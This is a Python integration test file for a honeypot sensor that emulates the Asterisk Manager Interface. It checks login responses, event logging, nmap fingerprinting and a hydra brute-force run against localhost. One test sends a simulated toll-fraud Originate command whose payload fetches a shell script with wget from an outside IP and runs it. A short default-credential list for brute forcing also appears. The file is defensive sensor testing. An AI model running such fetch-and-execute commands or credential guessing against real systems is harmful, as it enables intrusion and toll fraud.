"""
cases_ami.py - integration cases for the Asterisk Manager Interface front-end
(protocol = asterisk_ami).

Imported by run.py after cases.py; every @case here is appended to cases.ALL.

A small AMI client on a plain socket (what toll-fraud bots are) checks the
exact bytes of Login / Ping / Command / Originate / Logoff and the events
they leave; nmap -sV must name the service "Asterisk Call Manager" with the
version the sensor claims; hydra's asterisk module tries a 3x3 list.
"""
import collections
import os
import re
import shutil
import socket
import subprocess
import time

from harness import T, Service, Skip, by, run_hydra, wait_for, identity
from cases import case, stop_and_read

RELEASES = {"1.8.32.3": "1.1", "11.25.3": "1.3", "13.38.3": "2.10.6", "16.2.1": "5.0.1", "16.30.0": "5.0.4",
            "18.9.0": "7.0.1", "18.20.0": "7.0.3", "20.5.2": "9.0.0"}


def ami_svc(name, **opts):
    o = {"auth_fail_delay": "0"}
    o.update(opts)
    return Service(name, protocol="asterisk_ami", tcp=1, **o)


class Ami:
    """A line-oriented AMI client: send actions, read whole responses (up to the blank line)."""

    def __init__(self, port):
        self.s = socket.create_connection(("127.0.0.1", port), timeout=T(5))
        self.buf = b""

    def _fill(self):
        d = self.s.recv(65536)
        if not d:
            raise EOFError("closed; buffered %r" % self.buf)
        self.buf += d

    def line(self):
        while b"\r\n" not in self.buf:
            self._fill()
        i = self.buf.index(b"\r\n") + 2
        out, self.buf = self.buf[:i], self.buf[i:]
        return out

    def block(self):
        while b"\r\n\r\n" not in self.buf:
            self._fill()
        i = self.buf.index(b"\r\n\r\n") + 4
        out, self.buf = self.buf[:i], self.buf[i:]
        return out

    def action(self, **headers):
        text = "".join("%s: %s\r\n" % (k, v) for k, v in headers.items()) + "\r\n"
        self.s.sendall(text.encode())
        return self.block()

    def eof(self):
        try:
            while True:
                self._fill()
        except EOFError:
            return self.buf

    def close(self):
        self.s.close()


@case
def ami_client_session(ctx):
    svc = ami_svc("ami", accept="admin:s3cret", hostname="pbx-lon-02")
    d = ctx.daemon("ami-client", [svc])
    d.start()
    ver = identity(d, "ami_asterisk_version")
    assert ver in RELEASES, ver
    ami = RELEASES[ver]

    # A wrong secret: "Authentication failed", then the server hangs up.
    c = Ami(svc.port)
    assert c.line() == ("Asterisk Call Manager/%s\r\n" % ami).encode()
    assert c.action(Action="Login", Username="admin", Secret="admin", ActionID="1") == \
        b"Response: Error\r\nActionID: 1\r\nMessage: Authentication failed\r\n\r\n"
    assert c.eof() == b""
    c.close()

    c = Ami(svc.port)
    c.line()
    assert c.action(Action="Ping") == b"Response: Error\r\nMessage: Permission denied\r\n\r\n"
    assert c.action(Action="Login", Username="admin", Secret="s3cret") == \
        b"Response: Success\r\nMessage: Authentication accepted\r\n\r\n"
    booted = c.block()
    assert booted.startswith(b"Event: FullyBooted\r\nPrivilege: system,all\r\n") and \
        booted.endswith(b"Status: Fully Booted\r\n\r\n"), booted
    t0 = time.time()
    pong = c.action(Action="Ping", ActionID="42")
    m = re.match(rb"^Response: Success\r\nActionID: 42\r\nPing: Pong\r\nTimestamp: (\d+)\.(\d{6})\r\n\r\n$", pong)
    assert m and abs(int(m.group(1)) - t0) < 5, pong
    out = c.action(Action="Command", Command="core show version")
    line = "Asterisk %s built by mockbuild @ pbx-lon-02 on a x86_64 running Linux" % ver
    if ami.startswith(("1.", "2.")):
        assert out == ("Response: Follows\r\nPrivilege: Command\r\n%s\n--END COMMAND--\r\n\r\n" % line).encode(), out
    else:
        assert out == ("Response: Success\r\nMessage: Command output follows\r\nOutput: %s\r\n\r\n" % line).encode(), out
    url = "http://198.51.100.23/sip.sh"
    assert c.action(Action="Originate", Channel="SIP/voip-trunk/00972592000000", Context="from-internal",
                    Exten="00972592000000", Priority="1", Application="System",
                    Data="wget -q %s -O /tmp/s; sh /tmp/s" % url, Async="true") == \
        b"Response: Success\r\nMessage: Originate successfully queued\r\n\r\n"
    settings = c.action(Action="CoreSettings")
    assert ("AMIversion: %s\r\nAsteriskVersion: %s\r\nSystemName: pbx-lon-02\r\n" % (ami, ver)).encode() in settings
    assert c.action(Action="Logoff") == b"Response: Goodbye\r\nMessage: Thanks for all the fish.\r\n\r\n"
    assert c.eof() == b""
    c.close()

    wait_for(lambda: by(d.events(), "session.closed", reason="ami_logoff"), T(5), what="session.closed")
    evs = stop_and_read(d)
    evs = [e for e in evs if e.get("protocol") == "asterisk_ami"]
    failed, ok = by(evs, "login.failed"), by(evs, "login.success")
    assert len(failed) == 1 and failed[0]["username"] == "admin" and failed[0]["password"] == "admin", failed
    assert failed[0]["method"] == "ami"
    assert len(ok) == 1 and ok[0]["password"] == "s3cret" and ok[0]["asterisk_version"] == ver, ok
    inputs = by(evs, "command.input")
    assert [e["action"] for e in inputs] == ["Login", "Ping", "Login", "Ping", "Command", "Originate",
                                             "CoreSettings", "Logoff"], inputs
    assert [e["authenticated"] for e in inputs] == [False] * 3 + [True] * 5
    assert inputs[4]["input"] == "core show version"
    assert inputs[3]["input"] == "Action: Ping\r\nActionID: 42"
    orig = by(evs, "ami.originate")
    assert len(orig) == 1, orig
    o = orig[0]
    assert (o["channel"], o["context"], o["exten"], o["priority"], o["application"], o["async"]) == \
        ("SIP/voip-trunk/00972592000000", "from-internal", "00972592000000", "1", "System", "true"), o
    assert o["data"] == "wget -q %s -O /tmp/s; sh /tmp/s" % url and o["result"] == "Originate successfully queued"
    assert [e for e in evs if e.get("url") == url], "the Originate's URL was not handed to the capture pipeline"
    reasons = collections.Counter(e.get("reason") for e in by(evs, "session.closed"))
    assert reasons == {"ami_auth_failed": 1, "ami_logoff": 1}, reasons
    ctx.note("Asterisk %s, AMI %s: %d events" % (ver, ami, len(evs)))


@case
def ami_nmap(ctx):
    if not shutil.which("nmap"):
        raise Skip("nmap not installed")
    fixed = ami_svc("fixed", version="18.20.0")
    drawn = ami_svc("drawn")
    d = ctx.daemon("ami-nmap", [fixed, drawn])
    d.start()
    ver = identity(d, "ami_asterisk_version")
    r = subprocess.run(["nmap", "-Pn", "-n", "-sV", "-p", "%d,%d" % (fixed.port, drawn.port), "127.0.0.1"],
                       capture_output=True, stdin=subprocess.DEVNULL, timeout=T(120))
    out = r.stdout.decode("utf-8", "replace")
    assert r.returncode == 0, r.stderr[-500:]
    assert "honeypot" not in out.lower(), out
    for svc, ami in ((fixed, "7.0.3"), (drawn, RELEASES[ver])):
        line = [l for l in out.splitlines() if l.startswith("%d/tcp" % svc.port)]
        assert line and re.match(r"^%d/tcp\s+open\s+asterisk\s+Asterisk Call Manager %s$" % (
            svc.port, re.escape(ami)), line[0]), out
        ctx.note("nmap: " + re.sub(r"\s+", " ", line[0]))
    d.stop()


@case
def ami_hydra(ctx):
    if not shutil.which("hydra"):
        raise Skip("hydra not installed")
    svc = ami_svc("ami", accept="none:none")
    d = ctx.daemon("ami-hydra", [svc])
    d.start()
    users, passwords = ["admin", "manager", "asterisk"], ["amp111", "password", "1234"]
    ul, pl = os.path.join(d.tmp, "users.txt"), os.path.join(d.tmp, "passwords.txt")
    with open(ul, "w") as f:
        f.write("\n".join(users) + "\n")
    with open(pl, "w") as f:
        f.write("\n".join(passwords) + "\n")
    r, out, before = run_hydra(d, ["-I", "-L", ul, "-P", pl, "-t", "3", "-V", "-s", str(svc.port), "127.0.0.1",
                                   "asterisk"])
    assert r.returncode == 0 and "0 valid password" in out, out[-2000:] + r.stderr.decode()[-1000:]
    want = collections.Counter((u, p) for u in users for p in passwords)
    d.wait_event(lambda e: e["eventid"] == "login.failed", count=before + len(want), timeout=T(10),
                 what="%d login.failed" % len(want))
    time.sleep(T(0.5))
    got = collections.Counter((e["username"], e["password"]) for e in by(d.events(), "login.failed")[before:])
    assert got == want, "hydra tried %r, the sensor logged %r" % (want, got)
    ctx.note("hydra: %d pairs, %d login.failed" % (len(want), sum(got.values())))
    d.stop()
